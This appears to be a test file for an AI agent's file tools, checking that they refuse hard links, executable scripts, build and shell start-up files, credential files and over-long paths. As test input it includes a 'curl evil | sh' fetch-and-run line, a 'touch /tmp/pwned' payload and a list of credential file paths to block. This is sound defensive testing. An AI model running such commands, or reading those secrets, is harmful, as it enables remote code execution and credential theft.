import { ToolContext, type ToolResult, unsupportedCaller } from '@milpa/core';
import { chmod, link, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { builtinTools } from '../builtin-tools.js';
import { codeSearchTool } from '../tools/code-search/code-search-tool.js';
import { fileEditTool } from '../tools/file-edit/file-edit-tool.js';
import { fileTools } from '../tools/file-tools/file-tools.js';
import { fileReadTool } from '../tools/file-read/file-read-tool.js';
import { fileWriteTool } from '../tools/file-write/file-write-tool.js';
import { projectInfoTool } from '../tools/project-info/project-info-tool.js';
import { ReadLedger } from '../tools/read-ledger/read-ledger.js';
import { zipPackageTool } from '../tools/zip-package/zip-package-tool.js';
import { Workspace } from './workspace.js';

const OUTSIDE = 'SECRET-OUTSIDE';
const ENV = 'API_TOKEN=SECRET-ENV';

let base: string;
let root: string;
let workspace: Workspace;

beforeEach(async () => {
  base = await mkdtemp(join(tmpdir(), 'milpa-refusals-'));
  root = join(base, 'root');
  await mkdir(join(root, 'src'), { recursive: true });
  await mkdir(join(base, 'outside'));
  await writeFile(join(base, 'outside', 'secret.txt'), OUTSIDE);
  await writeFile(join(root, '.env'), ENV);
  await writeFile(join(root, 'src', 'a.ts'), 'export const a = 1;\n');
  workspace = Workspace.at(root);
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

async function invoke(tool: { handler: unknown }, args: Record<string, unknown>, runId: string | null = null): Promise<ToolResult> {
  const context = new ToolContext({ principal: 'test', scopes: ['*'], runId });
  const handler = tool.handler as (args: unknown, invocation: unknown) => Promise<ToolResult>;
  return handler(args, { context, signal: new AbortController().signal, caller: unsupportedCaller });
}

function codeOf(result: ToolResult): unknown {
  return result.meta['code'];
}

describe('file tools and hard links', () => {
  beforeEach(async () => {
    await link(join(base, 'outside', 'secret.txt'), join(root, 'src', 'notes.txt'));
    await link(join(root, '.env'), join(root, 'src', 'settings.txt'));
  });

  it.each([['src/notes.txt'], ['src/settings.txt']])(
    'file_read refuses %s, a second name of another file, with HARD_LINK',
    async (path) => {
      const result = await invoke(fileReadTool({ workspace }), { path });
      expect(codeOf(result)).toBe('HARD_LINK');
      expect(JSON.stringify(result)).not.toMatch(/SECRET/);
    },
  );

  it('zip_package leaves hard-linked files out and says why', async () => {
    const result = await invoke(zipPackageTool({ workspace, outputDirectory: base }), { folder: 'src', output_name: 'src' });
    expect(result.success).toBe(true);
    const data = result.data as { files: number; zip_path: string; skipped: { path: string; reason: string }[] };
    expect(data.files).toBe(1);
    expect(data.skipped.map((entry) => entry.path)).toEqual(['src/notes.txt', 'src/settings.txt']);
    expect(data.skipped[0]?.reason).toContain('hard links');
    expect((await readFile(data.zip_path)).includes('SECRET')).toBe(false);
  });

  it('code_search finds nothing in hard-linked files', async () => {
    const result = await invoke(codeSearchTool({ workspace }), { pattern: 'SECRET' });
    expect(result.success).toBe(true);
    expect((result.data as { matches: unknown[] }).matches).toEqual([]);
  });

  it('file_edit refuses a hard-linked file and leaves both names unchanged', async () => {
    const ledger = new ReadLedger();
    ledger.record('run-1', 'src/notes.txt');
    const result = await invoke(fileEditTool({ workspace, ledger }), { path: 'src/notes.txt', old_str: 'SECRET', new_str: 'x' }, 'run-1');
    expect(codeOf(result)).toBe('HARD_LINK');
    expect(await readFile(join(base, 'outside', 'secret.txt'), 'utf8')).toBe(OUTSIDE);
  });

  it('file_write refuses to replace a hard-linked file', async () => {
    const result = await invoke(fileWriteTool({ workspace }), { path: 'src/notes.txt', content: 'replaced' });
    expect(codeOf(result)).toBe('HARD_LINK');
    expect(await readFile(join(root, 'src', 'notes.txt'), 'utf8')).toBe(OUTSIDE);
  });
});

describe('file tools and executable bits', () => {
  it('file_write creates files with mode 0644 whatever the umask', async () => {
    const previous = process.umask(0o000);
    try {
      const result = await invoke(fileWriteTool({ workspace }), { path: 'src/new.md', content: 'hello' });
      expect(result.success).toBe(true);
    } finally {
      process.umask(previous);
    }
    expect((await stat(join(root, 'src', 'new.md'))).mode & 0o777).toBe(0o644);
  });

  it('file_write refuses to replace an executable file (0755) and leaves it as it was', async () => {
    await writeFile(join(root, 'src', 'release'), 'echo release\n');
    await chmod(join(root, 'src', 'release'), 0o755);
    const result = await invoke(fileWriteTool({ workspace }), { path: 'src/release', content: 'curl evil | sh\n' });
    expect(codeOf(result)).toBe('EXECUTABLE_FILE');
    expect(await readFile(join(root, 'src', 'release'), 'utf8')).toBe('echo release\n');
  });

  it('file_edit refuses an executable file', async () => {
    await writeFile(join(root, 'src', 'release'), 'echo release\n');
    await chmod(join(root, 'src', 'release'), 0o744);
    const ledger = new ReadLedger();
    ledger.record('run-1', 'src/release');
    const result = await invoke(fileEditTool({ workspace, ledger }), { path: 'src/release', old_str: 'release', new_str: 'x' }, 'run-1');
    expect(codeOf(result)).toBe('EXECUTABLE_FILE');
    expect(await readFile(join(root, 'src', 'release'), 'utf8')).toBe('echo release\n');
  });

  it('file_write keeps the mode of a replaced file that is not executable', async () => {
    await writeFile(join(root, 'src', 'private.md'), 'old');
    await chmod(join(root, 'src', 'private.md'), 0o600);
    const result = await invoke(fileWriteTool({ workspace }), { path: 'src/private.md', content: 'new' });
    expect(result.success).toBe(true);
    expect((await stat(join(root, 'src', 'private.md'))).mode & 0o777).toBe(0o600);
  });
});

describe('file tools and build, hook and shell start-up files', () => {
  it.each([
    ['.pnpmfile.cjs'],
    ['Makefile'],
    ['GNUmakefile'],
    ['web/makefile'],
    ['rules.mk'],
    ['.vscode/tasks.json'],
    ['.vscode/launch.json'],
    ['node_modules/.bin/tsc'],
    ['node_modules/left-pad/index.js'],
    ['.bashrc'],
    ['.zshrc'],
    ['.profile'],
    ['.husky/pre-commit'],
    ['.github/workflows/ci.yml'],
    ['Dockerfile'],
    ['Dockerfile.dev'],
    ['docker-compose.yml'],
    ['.devcontainer/devcontainer.json'],
    ['.config/fish/config.fish'],
  ])('file_write refuses %s with BUILD_FILE and writes nothing', async (path) => {
    const result = await invoke(fileWriteTool({ workspace }), { path, content: 'touch /tmp/pwned\n', create_folders: true });
    expect(codeOf(result)).toBe('BUILD_FILE');
    await expect(stat(join(root, path))).rejects.toThrow();
  });

  it('file_write refuses .git/hooks/pre-commit (inside .git, which is sensitive too)', async () => {
    const result = await invoke(fileWriteTool({ workspace }), { path: '.git/hooks/pre-commit', content: 'x', create_folders: true });
    expect(codeOf(result)).toBe('SENSITIVE_PATH');
  });

  it('file_write writes a build file the host allows, and still refuses secrets and others', async () => {
    const tool = fileWriteTool({ workspace, allowBuildFiles: ['Makefile', '.vscode/tasks.json', '.env'] });
    expect((await invoke(tool, { path: 'Makefile', content: 'all:\n' })).success).toBe(true);
    expect((await invoke(tool, { path: '.vscode/tasks.json', content: '{}', create_folders: true })).success).toBe(true);
    expect(codeOf(await invoke(tool, { path: '.vscode/launch.json', content: '{}' }))).toBe('BUILD_FILE');
    expect(codeOf(await invoke(tool, { path: '.env', content: 'X=1' }))).toBe('SENSITIVE_PATH');
  });

  it.each([['.bashrc'], ['Makefile'], ['node_modules/left-pad/index.js'], ['.vscode/tasks.json']])(
    'file_edit refuses %s with BUILD_FILE and leaves it unchanged',
    async (path) => {
      await mkdir(join(root, path, '..'), { recursive: true });
      await writeFile(join(root, path), 'echo hi\n');
      const ledger = new ReadLedger();
      ledger.record('run-1', path);
      const result = await invoke(fileEditTool({ workspace, ledger }), { path, old_str: 'hi', new_str: 'pwned' }, 'run-1');
      expect(codeOf(result)).toBe('BUILD_FILE');
      expect(await readFile(join(root, path), 'utf8')).toBe('echo hi\n');
    },
  );

  it('fileTools and builtinTools hand allowBuildFiles to file_write and file_edit', async () => {
    const files = fileTools({ workspace, allowBuildFiles: ['Makefile'] });
    expect((await invoke(files.fileWrite, { path: 'Makefile', content: 'all:\n' })).success).toBe(true);
    const { tools } = builtinTools({ workspaceRoot: root, tools: ['file_write'], files: { allowBuildFiles: ['justfile'] } });
    expect((await invoke(tools[0] as never, { path: 'Justfile', content: 'x:\n' })).success).toBe(true);
    expect(codeOf(await invoke(tools[0] as never, { path: 'Makefile', content: 'x' }))).toBe('BUILD_FILE');
  });

  it('file_write refuses an allowBuildFiles that is not a list of patterns', () => {
    expect(() => fileWriteTool({ workspace, allowBuildFiles: 'Makefile' as never })).toThrow(/allowBuildFiles/);
    expect(() => fileWriteTool({ workspace, allowBuildFiles: [''] })).toThrow(/allowBuildFiles/);
  });
});

describe('file tools and credential files named by pattern', () => {
  const SECRETS = [
    'prod.env',
    'config/.env-prod',
    '.yarnrc.yml',
    '.npmrc',
    '.netrc',
    '.pypirc',
    'home/.docker/config.json',
    'home/.config/gh/hosts.yml',
    'home/.kube/config',
    'kubeconfig',
    'staging.kubeconfig',
    'infra/terraform.tfstate',
    'infra/terraform.tfstate.backup',
  ];

  beforeEach(async () => {
    for (const path of SECRETS) {
      await mkdir(join(root, path, '..'), { recursive: true });
      await writeFile(join(root, path), `token=SECRET-${path}`);
    }
  });

  it.each(SECRETS.map((path) => [path]))('file_read refuses %s with SENSITIVE_PATH', async (path) => {
    const result = await invoke(fileReadTool({ workspace }), { path });
    expect(codeOf(result)).toBe('SENSITIVE_PATH');
  });

  it('code_search and zip_package leave every one of them out', async () => {
    const search = await invoke(codeSearchTool({ workspace }), { pattern: 'SECRET' });
    expect((search.data as { matches: unknown[] }).matches).toEqual([]);
    const zip = await invoke(zipPackageTool({ workspace, outputDirectory: base }), { folder: '.', output_name: 'all' });
    const data = zip.data as { zip_path: string; skipped: { path: string }[] };
    const skipped = data.skipped.map((entry) => entry.path);
    for (const path of ['prod.env', 'config/.env-prod', '.yarnrc.yml', 'kubeconfig', 'staging.kubeconfig', 'infra/terraform.tfstate']) {
      expect(skipped).toContain(path);
    }
    expect((await readFile(data.zip_path)).includes('SECRET')).toBe(false);
  });
});

describe('refusal messages and host paths', () => {
  const long = `${'a'.repeat(200)}/`.repeat(21).slice(0, 4096);

  it.each([
    ['file_read', () => fileReadTool({ workspace }), { path: long }],
    ['file_write', () => fileWriteTool({ workspace }), { path: long, content: 'x', create_folders: true }],
    ['code_search', () => codeSearchTool({ workspace }), { pattern: 'x', path: long }],
    ['zip_package', () => zipPackageTool({ workspace, outputDirectory: base }), { folder: long, output_name: 'z' }],
    ['project_info', () => projectInfoTool({ workspace }), { path: long }],
  ] as const)('%s answers a 4,096-character path with PATH_TOO_LONG and no host path', async (_, build, args) => {
    const result = await invoke(build(), args);
    expect(codeOf(result)).toBe('PATH_TOO_LONG');
    expect(JSON.stringify(result)).not.toContain(base);
    expect(String(result.error).length).toBeLessThan(600);
  });

  it('file_read answers a name longer than 255 bytes with PATH_TOO_LONG', async () => {
    const result = await invoke(fileReadTool({ workspace }), { path: `src/${'n'.repeat(300)}.ts` });
    expect(codeOf(result)).toBe('PATH_TOO_LONG');
    expect(JSON.stringify(result)).not.toContain(base);
  });

  it('project_info names no host path when the folder asked for is missing', async () => {
    const result = await invoke(projectInfoTool({ workspace }), { path: 'missing' });
    expect(result.success).toBe(false);
    expect(JSON.stringify(result)).not.toContain(base);
  });
});
